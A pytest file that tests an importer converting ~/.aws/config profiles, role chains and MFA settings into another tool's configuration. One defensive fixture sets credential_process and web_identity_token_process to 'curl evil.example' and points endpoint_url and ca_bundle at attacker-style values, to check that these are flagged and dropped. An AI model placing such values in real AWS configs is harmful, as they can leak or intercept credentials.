"""Importing files in the way of `~/.aws/config`, with the habits of the tools that share it."""

from __future__ import annotations

from pathlib import Path

import pytest

from hatstand.config.importers import import_aws_config
from hatstand.config.model import AccountSelector, ConfiguredAccount, ContextSettings, RoleTemplate

from .importing import read_back, source, told

SERIAL = "arn:aws:iam::999999999999:mfa/alice"
HUB = "arn:aws:iam::999999999999:role/Hub"
PROD, DEV = "111111111111", "222222222222"

PLAIN = f"""\
[default]
region = us-east-1
mfa_serial = arn:aws:iam::999999999999:mfa/other

[profile jump]
region = ap-northeast-1
mfa_serial = {SERIAL}

[profile payments-prod-Admin]
role_arn = arn:aws:iam::{PROD}:role/Admin
source_profile = jump
mfa_serial = {SERIAL}
duration_seconds = 14400

[profile payments-dev-Admin]
role_arn = arn:aws:iam::{DEV}:role/Admin
source_profile = jump

[profile hub]
role_arn = {HUB}
source_profile = jump

[profile deploy]
role_arn = arn:aws:iam::{PROD}:role/Deploy
source_profile = hub
external_id = abc:123
"""


def test_chains_become_contexts_and_hops(tmp_path: Path) -> None:
    imported = import_aws_config(source(PLAIN), frozenset({"jump"}))
    assert imported.contexts == (
        ContextSettings(
            "jump",
            profile="jump",
            region="ap-northeast-1",
            mfa_serial=SERIAL,
            accounts=(
                ConfiguredAccount(PROD, "payments-prod-Admin"),
                ConfiguredAccount(DEV, "payments-dev"),
                ConfiguredAccount("999999999999", "hub"),
            ),
            roles=(
                RoleTemplate("Admin", AccountSelector(id=(PROD,)), mfa=True, duration=14400),
                RoleTemplate("Admin", AccountSelector(id=(DEV,))),
                RoleTemplate("Hub", AccountSelector(id=("999999999999",))),
                RoleTemplate("Deploy", AccountSelector(id=(PROD,)), external_id="abc:123", via=HUB),
            ),
        ),
    )
    assert imported.findings == ()
    assert imported.risks == ()
    read_back(imported, tmp_path)


def test_for_the_aws_cli_nothing_is_inherited() -> None:
    """`[default]` and the source's device count for aws-vault and awsume alone."""
    roles = import_aws_config(source(PLAIN), frozenset({"jump"})).contexts[0].roles
    assert [role.mfa for role in roles] == [True, None, None, None]


def test_aws_vault_inherits_from_default_and_from_what_is_included(tmp_path: Path) -> None:
    text = f"""\
[default]
region = eu-west-1
mfa_serial = {SERIAL}
mfa_process = ykman oath accounts code -s aws
aws_secret_access_key = SENTINEL

[profile jump]

[profile base]
source_profile = jump
external_id = shared-id

[profile one]
include_profile = base
role_arn = arn:aws:iam::{PROD}:role/Admin

[profile two]
role_arn = arn:aws:iam::{DEV}:role/Admin
source_profile = jump
"""
    imported = import_aws_config(source(text), frozenset({"jump"}))
    (context,) = imported.contexts
    assert context.mfa_serial == SERIAL
    assert context.mfa_process == "ykman oath accounts code -s aws"
    assert context.region == "eu-west-1"
    assert [(role.mfa, role.external_id) for role in context.roles] == [
        (True, "shared-id"),
        (True, None),
    ]
    assert "SENTINEL" not in repr(imported)
    read_back(imported, tmp_path)
    assert "SENTINEL" not in (tmp_path / "pasted.toml").read_text()


def test_an_include_that_loops_or_leads_nowhere_is_told() -> None:
    text = (
        "[profile a]\ninclude_profile = b\n[profile b]\nparent_profile = a\n"
        "[profile c]\ninclude_profile = nowhere\n"
    )
    assert told(import_aws_config(source(text))) == [
        '2 [profile a] include_profile: "b" leads back to itself',
        '4 [profile b] parent_profile: "a" leads back to itself',
        '6 [profile c] include_profile: "nowhere" is not in this file',
    ]


def test_a_command_keeps_the_shell_that_aws_vault_gives_it() -> None:
    text = f"""\
[profile jump]
mfa_serial = {SERIAL}
mfa_process = pass otp aws | tail -1
[profile x]
role_arn = arn:aws:iam::{PROD}:role/Admin
source_profile = jump
"""
    imported = import_aws_config(source(text), frozenset({"jump"}))
    assert imported.contexts[0].mfa_process == "sh -c 'pass otp aws | tail -1'"
    (risk,) = imported.risks
    assert (risk.line, risk.key, risk.value, risk.kept) == (
        3,
        "mfa_process",
        "pass otp aws | tail -1",
        True,
    )
    without = imported.without_commands()
    assert without.contexts[0].mfa_process is None
    assert not any(risk.kept for risk in without.risks)


def test_what_runs_code_or_redirects_is_listed_and_left_out(tmp_path: Path) -> None:
    text = f"""\
[profile evil]
role_arn = arn:aws:iam::{PROD}:role/Admin
source_profile = jump
credential_process = curl evil.example
endpoint_url = https://evil.example
ca_bundle = /tmp/evil.pem
services = evil
[services evil]
sts =
  endpoint_url = https://evil.example
[profile web]
role_arn = arn:aws:iam::{PROD}:role/Web
web_identity_token_process = curl evil.example
"""
    imported = import_aws_config(source(text), frozenset({"jump"}))
    assert [(risk.line, risk.key) for risk in imported.risks] == [
        (4, "credential_process"),
        (5, "endpoint_url"),
        (6, "ca_bundle"),
        (7, "services"),
        (9, "endpoint_url"),
        (13, "web_identity_token_process"),
    ]
    assert not any(risk.kept for risk in imported.risks)
    assert "evil.example" not in repr(imported)
    read_back(imported, tmp_path)
    assert "evil.example" not in (tmp_path / "pasted.toml").read_text()


def test_awsume_takes_default_for_a_missing_source_and_the_source_s_device() -> None:
    text = f"""\
[default]
mfa_serial = {SERIAL}
[profile x]
role_arn = arn:aws:iam::{PROD}:role/Admin
[profile autoawsume-x]
manager = awsume
role_arn = arn:aws:iam::{PROD}:role/Other
[profile y]
role_arn = arn:aws:iam::{PROD}:role/Other2
auto-refresh-expiration = never
"""
    imported = import_aws_config(source(text), frozenset({"default"}))
    (context,) = imported.contexts
    assert (context.name, context.profile, context.mfa_serial) == ("default", "default", SERIAL)
    assert [(role.name, role.mfa) for role in context.roles] == [("Admin", True)]
    assert told(imported) == [
        '3 [profile x]: no source_profile: "default" is taken, as awsume does; '
        "the AWS CLI refuses it",
        "5 profile: left out (and 1 more)",
    ]


def test_granted_s_marks_are_no_profiles_and_what_is_between_is_read() -> None:
    text = f"""\
[granted_registry_start acme]
[profile shared]
role_arn = arn:aws:iam::{PROD}:role/Admin
source_profile = jump
granted_color = red
[profile portal]
granted_sso_account_id = {PROD}
granted_sso_role_name = ReadOnly
credential_process = granted credential-process --profile portal
[granted_registry_end acme]
"""
    imported = import_aws_config(source(text), frozenset({"jump"}))
    assert [role.name for role in imported.contexts[0].roles] == ["Admin"]
    assert told(imported) == ["5 granted_color: left out", "6 sso_account_id: left out"]
    assert [risk.key for risk in imported.risks] == ["credential_process"]


def test_settings_of_sessions_are_told_with_where_they_belong() -> None:
    text = f"""\
[profile x]
role_arn = arn:aws:iam::{PROD}:role/Admin
source_profile = jump
session_tags = team=pay
transitive_session_tags = team
source_identity = alice
role_session_name = alice
"""
    imported = import_aws_config(source(text), frozenset({"jump"}))
    assert [line.split()[1] for line in told(imported)] == [
        "session_tags:",
        "transitive_session_tags:",
        "source_identity:",
        "role_session_name:",
    ]
    assert "[sessions]" in imported.findings[0].hint


def test_a_start_that_is_missing_here_is_still_named() -> None:
    """A file of somebody else must never start from whatever credentials are about."""
    text = f"[profile x]\nrole_arn = arn:aws:iam::{PROD}:role/Admin\nsource_profile = jump\n"
    imported = import_aws_config(source(text))
    assert imported.contexts[0].profile == "jump"
    assert 'no profile of this machine is called "jump"' in told(imported)[0]


def test_a_credential_source_starts_from_the_default_credentials() -> None:
    text = (
        f"[profile x]\nrole_arn = arn:aws:iam::{PROD}:role/Admin\ncredential_source = Environment\n"
    )
    (context,) = import_aws_config(source(text)).contexts
    assert (context.name, context.profile) == ("imported", None)


@pytest.mark.parametrize(
    ("keys", "told_line"),
    [
        ("role_arn = arn:aws:iam::1:role/A", 'left out: "arn:aws:iam::1:role/A" is not'),
        (f"role_arn = arn:aws:iam::{PROD}:role/team/A", "a role with a path can't be"),
        (f"role_arn = arn:aws:iam::{PROD}:role/A\nsource_profile = x2", "leads back to itself"),
        (
            f"role_arn = arn:aws:iam::{PROD}:role/A\nweb_identity_token_file = /t",
            "it starts from web_identity_token_file",
        ),
    ],
)
def test_a_profile_that_can_not_be_a_template_is_left_out(keys: str, told_line: str) -> None:
    text = (
        f"[profile x]\n{keys}\n[profile x2]\nrole_arn = arn:aws:iam::{PROD}:role/B\n"
        "source_profile = x3\n[profile x3]\nsource_profile = x2\n"
        f"role_arn = arn:aws:iam::{PROD}:role/C\n"
    )
    imported = import_aws_config(source(text))
    assert imported.contexts == ()
    assert any(told_line in line for line in told(imported))


def test_values_that_config_toml_refuses_are_left_out_alone(tmp_path: Path) -> None:
    text = f"""\
[profile x]
role_arn = arn:aws:iam::{PROD}:role/Admin
source_profile = jump
external_id = has blanks
duration_seconds = 60
mfa_serial = arn:aws:iam::1:mfa/x
region = nowhere
"""
    imported = import_aws_config(source(text), frozenset({"jump"}))
    (role,) = imported.contexts[0].roles
    assert (role.external_id, role.duration, role.mfa) == (None, None, True)
    assert sorted(line.split()[0] for line in told(imported)) == ["4", "5", "6", "7"]
    read_back(imported, tmp_path)


@pytest.mark.parametrize(
    ("text", "line"),
    [("[profile a]\nx\n", 2), ("[profile a]\n[profile a]\n", 2), ("x = 1\n", 1)],
)
def test_a_file_that_the_aws_cli_refuses_is_refused_with_its_line(text: str, line: int) -> None:
    imported = import_aws_config(source(text))
    assert imported.refused
    assert imported.findings[0].line == line


def test_two_ways_to_one_role_are_told() -> None:
    text = "".join(
        f"[profile {name}]\nrole_arn = arn:aws:iam::{PROD}:role/Admin\nsource_profile = jump\n"
        f"{more}"
        for name, more in (("a", ""), ("b", "external_id = abc\n"))
    )
    imported = import_aws_config(source(text), frozenset({"jump"}))
    assert len(imported.contexts[0].roles) == 1
    assert told(imported) == ["5 b: a names the same role in another way, and counts"]


def test_regions_that_differ_are_told_and_the_base_s_counts() -> None:
    def text(base: str) -> str:
        return f"[profile jump]\n{base}\n" + "".join(
            f"[profile {name}]\nrole_arn = arn:aws:iam::{PROD}:role/{name}\nsource_profile = jump\n"
            f"region = {region}\n"
            for name, region in (("a", "eu-west-1"), ("b", "us-east-1"))
        )

    with_base = import_aws_config(source(text("region = eu-west-1")), frozenset({"jump"}))
    assert with_base.contexts[0].region == "eu-west-1"
    assert told(with_base) == ["10 region: left out"]
    assert import_aws_config(source(text(""))).contexts[0].region is None
